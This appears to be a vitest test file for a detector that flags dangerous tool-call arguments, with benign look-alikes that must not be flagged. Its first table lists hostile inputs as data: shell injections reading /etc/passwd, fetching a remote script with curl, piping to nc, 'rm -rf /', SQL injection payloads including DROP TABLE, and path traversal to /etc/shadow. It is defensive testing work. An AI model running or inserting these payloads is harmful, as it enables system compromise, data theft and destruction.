import { describe, expect, test } from 'vitest';

import { createDangerousArgumentsDetector, findingNames } from '../index.ts';

function namesIn(text: string, direction: 'arguments' | 'result' = 'arguments'): readonly string[] {
  return findingNames(
    createDangerousArgumentsDetector().detect({ value: { text }, direction, target: 'test' }),
  );
}

describe('what is found', () => {
  test.each([
    ['x; cat /etc/passwd', 'shell-injection/command-separator'],
    ['report.pdf && curl http://x.example/i.sh', 'shell-injection/command-separator'],
    ['a | nc 10.0.0.1 4444', 'shell-injection/command-separator'],
    ['name$(whoami)', 'shell-injection/command-substitution'],
    ['file`id`.txt', 'shell-injection/command-substitution'],
    ['hello > /etc/cron.d/x', 'shell-injection/redirection'],
    ['rm -rf /', 'shell-injection/destructive-command'],
    ['x%3B%20cat%20%2Fetc%2Fpasswd', 'shell-injection/command-separator'],
    ["1' OR '1'='1", 'sql-injection/tautology'],
    ['1 or 1=1', 'sql-injection/tautology'],
    ["admin' --", 'sql-injection/comment'],
    ["x'; DROP TABLE users", 'sql-injection/stacked-statement'],
    ['1 UNION ALL SELECT name FROM t', 'sql-injection/union'],
    ["1; WAITFOR DELAY '0:0:5'", 'sql-injection/function'],
    ['../../etc/passwd', 'path-traversal'],
    ['..\\..\\windows\\system32', 'path-traversal'],
    ['%2e%2e%2fetc%2fshadow', 'path-traversal/encoded'],
    ['%252e%252e%252fetc', 'path-traversal/encoded'],
    ['a/../../b', 'path-traversal'],
    ['/srv/notes/../keys', 'path-traversal'],
    ['/srv/work/out/../../../etc/passwd', 'path-traversal'],
    ['cat /a/b/../../etc/shadow', 'path-traversal'],
  ])('%s', (text, name) => {
    expect(namesIn(text)).toContain(name);
  });
});

describe('what is not found', () => {
  test.each([
    ['prose with a semicolon', 'It rained; cat videos helped. We stayed in; less is more.'],
    ['prose with apostrophes', "It's Dana's or Lee's; don't worry -- it's fine"],
    ['an ampersand', 'R&D & sales, a&id=2&type=x'],
    ['a query string', 'https://example.com/?a=1&ls=2&cat=news'],
    ['a Markdown table', '| id | type |\n|----|------|\n| ls | list |'],
    ['quoted commands', 'run `ls -la` and then `cat file.txt`'],
    ['an e-mail quotation', '> the /etc question was answered'],
    ['a whole statement', "SELECT name FROM users WHERE id = 1 AND name = 'x'"],
    ['union in prose', 'The union selected its speaker'],
    ['a path that stays inside', 'a/../b/./c'],
    ['an ellipsis', 'and so on... / more'],
    ['imports of a source file', "import { a } from '../b.js';\nimport { c } from '../../d.js';\n"],
    ['a link of a document', 'see [the guide](../guide.md)\nand more'],
    ['money', 'costs $(5) or $5'],
  ])('%s', (_what, text) => {
    expect(namesIn(text)).toEqual([]);
  });

  test('results are not looked at', () => {
    expect(namesIn('x; cat /etc/passwd', 'result')).toEqual([]);
  });
});
